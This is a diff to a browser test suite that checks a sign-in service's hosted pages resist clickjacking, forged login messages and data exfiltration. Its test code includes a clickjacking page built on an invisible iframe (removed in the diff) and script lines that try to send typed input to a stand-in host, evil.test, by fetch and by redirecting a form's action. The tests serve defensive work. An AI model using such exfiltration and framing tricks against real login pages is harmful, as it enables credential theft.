@@ -141,24 +141,19 @@ describe("a message with the right state that forges a silent login's answer in 
 
     expect([await login(), codes]).toEqual(["signed in", ["CODE"]])
   })
-
-  it("is not heard at all once the login is over", async () => {
-    const codes = await victim(slowAnswer)
-    await login()
-    await page.evaluate(frameOf, "https://id.test/other")
-    await page.waitForEvent("framenavigated")
-
-    expect(codes).toEqual(["CODE"])
-  })
 })
 
 describe("the hosted pages in Chromium", () => {
-  it("show nothing in another site's frame", async () => {
+  it("show nothing in a frame, not even of the site that they lead back to", async () => {
     const address = await hosted.signInAddress()
-    await page.route("http://evil.test/", (route) =>
-      route.fulfill(html(`<iframe src="${address}" style="opacity: 0"></iframe><button>Win</button>`))
-    )
-    await page.goto("http://evil.test/")
+    await page.goto(hosted.site)
+    await page.evaluate(async (url) => {
+      const frame = document.createElement("iframe")
+      frame.src = url
+      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve))
+      document.body.append(frame)
+      await loaded
+    }, address)
 
     const [, frame] = page.frames()
     expect([frame?.url(), await frame?.locator("form").count()]).toEqual(["chrome-error://chromewebdata/", 0])
@@ -201,22 +196,27 @@ describe("the hosted pages in Chromium", () => {
   })
 
   it("give a script of the page no way to send elsewhere what was typed", async () => {
+    await page.route("http://evil.test/**", (route) =>
+      route.fulfill({ headers: { "access-control-allow-origin": "*" }, body: "thank you" })
+    )
     await page.goto(await hosted.signInAddress())
 
-    const sent = await page.evaluate(async () => {
+    const told = await page.evaluate(async () => {
       const call = await fetch("http://evil.test/?typed").then(
         () => "sent",
         () => "kept"
       )
+      const blocked = new Promise((resolve) => {
+        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+          if (effectiveDirective === "form-action") resolve("kept")
+        })
+      })
       const [form] = document.forms
       form?.setAttribute("action", "http://evil.test/")
-      const blocked = new Promise((resolve) => {
-        document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective))
-      })
       form?.submit()
       return [call, await blocked]
     })
 
-    expect(sent[0]).toBe("kept")
+    expect(told).toEqual(["kept", "kept"])
   })
 })
